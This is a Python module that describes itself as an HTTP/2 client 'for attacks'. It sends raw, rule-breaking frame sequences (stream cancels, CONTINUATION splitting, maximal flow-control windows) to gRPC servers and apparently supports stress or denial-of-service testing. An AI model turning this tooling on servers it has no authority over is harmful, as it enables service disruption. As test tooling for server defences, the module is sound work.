"""An HTTP/2 client for attacks, which sends any frames in any order, as no library does."""

import asyncio
import contextlib
import ssl
import struct
from collections import Counter
from collections.abc import Iterable, Sequence
from typing import Self

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
FRAME_BYTES_MAX = 16_384
CANCELLED = struct.pack(">I", 8)
LARGEST_WINDOWS = b"\x00\x04\x7f\xff\xff\xff"
"""A setting: every stream may receive 2 GiB."""
READ_TIMEOUT_S = 5.0
TOGETHER_BYTES = 64 << 10
"""Number of bytes that are written before the server has to read some. It limits the memory of the attacker."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def headers(path: str, *more: tuple[str, str]) -> bytes:
    """The uncompressed header block of a gRPC call."""
    fixed = (("te", "trailers"), ("content-type", "application/grpc"), *more)
    # The two indexed fields are `:method POST` and `:scheme http`.
    return b"\x83\x86" + b"".join(_literal(*one) for one in ((":path", path), (":authority", "x"), *fixed))


def _literal(name: str, value: str) -> bytes:
    return b"\x00" + _integer(len(name)) + name.encode() + _integer(len(value)) + value.encode()


def _integer(number: int) -> bytes:
    """An integer with a prefix of seven bits."""
    if number < 127:
        return bytes((number,))
    out = bytearray((127,))
    number -= 127
    while number >= 128:
        out.append(number & 127 | 128)
        number >>= 7
    out.append(number)
    return bytes(out)


def opening(stream: int, block: bytes) -> bytes:
    """The frames that open a stream with these headers."""
    parts = [block[at : at + FRAME_BYTES_MAX] for at in range(0, len(block), FRAME_BYTES_MAX)]
    last = len(parts) - 1
    return b"".join(
        frame(CONTINUATION if at else HEADERS, END_HEADERS if at == last else 0, stream, part)
        for at, part in enumerate(parts)
    )


def message(data: bytes, *, is_compressed: bool = False) -> bytes:
    """A gRPC message with its prefix."""
    return bytes((is_compressed,)) + struct.pack(">I", len(data)) + data


def request(stream: int, data: bytes) -> bytes:
    """The frames that carry the only message of a stream, which ends with it."""
    parts = [data[at : at + FRAME_BYTES_MAX] for at in range(0, len(data) or 1, FRAME_BYTES_MAX)]
    last = len(parts) - 1
    return b"".join(frame(DATA, END_STREAM if at == last else 0, stream, part) for at, part in enumerate(parts))


class Stranger:
    """One connection. It acknowledges settings and pings, reads everything, and obeys no other rule."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.frames: Counter[int] = Counter()
        """The number of received frames, by kind."""
        self.is_open = True
        self._writer = writer
        self._next_stream = 1
        self._reading = asyncio.get_running_loop().create_task(self._read(reader))

    @classmethod
    async def connect(cls, address: str, tls: ssl.SSLContext | None = None) -> Self:
        """Connect and send the HTTP/2 preface. Errors: OSError."""
        host, _, port = address.rpartition(":")
        one = cls(*await asyncio.open_connection(host, int(port), ssl=tls))
        window = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65_535))
        one._writer.write(PREFACE + frame(SETTINGS, 0, 0, LARGEST_WINDOWS) + window)
        return one

    async def _read(self, reader: asyncio.StreamReader) -> None:
        try:
            while True:
                head = await reader.readexactly(9)
                payload = await reader.readexactly(int.from_bytes(head[:3], "big"))
                kind, flags = head[3], head[4]
                self.frames[kind] += 1
                if kind == SETTINGS and not flags & ACK:
                    self._writer.write(frame(SETTINGS, ACK, 0))
                elif kind == PING and not flags & ACK:
                    self._writer.write(frame(PING, ACK, 0, payload))
        except (OSError, asyncio.IncompleteReadError):
            self.is_open = False

    def streams(self, count: int) -> Sequence[int]:
        """The numbers of `count` new streams."""
        first, self._next_stream = self._next_stream, self._next_stream + 2 * count
        return range(first, self._next_stream, 2)

    async def send(self, *frames: bytes) -> bool:
        """Send these frames; whether the server still accepts any."""
        return await self.send_all(frames)

    async def send_all(self, frames: Iterable[bytes]) -> bool:
        """The same for many frames, which are made as fast as the server reads them."""
        unsent = bytearray()
        for one in frames:
            unsent += one
            if len(unsent) >= TOGETHER_BYTES:
                if not await self._write(unsent):
                    return False
                unsent.clear()
        return await self._write(unsent)

    async def _write(self, data: bytes | bytearray) -> bool:
        if self.is_open:
            self._writer.write(bytes(data))
            try:
                async with asyncio.timeout(READ_TIMEOUT_S):
                    await self._writer.drain()
            except OSError:  # includes timeouts
                self.is_open = False
        return self.is_open

    async def until_closed(self) -> None:
        """Wait until the server has ended the connection."""
        await asyncio.shield(self._reading)

    async def close(self) -> None:
        """End it."""
        self._reading.cancel()
        self._writer.transport.abort()
        with contextlib.suppress(asyncio.CancelledError):
            await self._reading
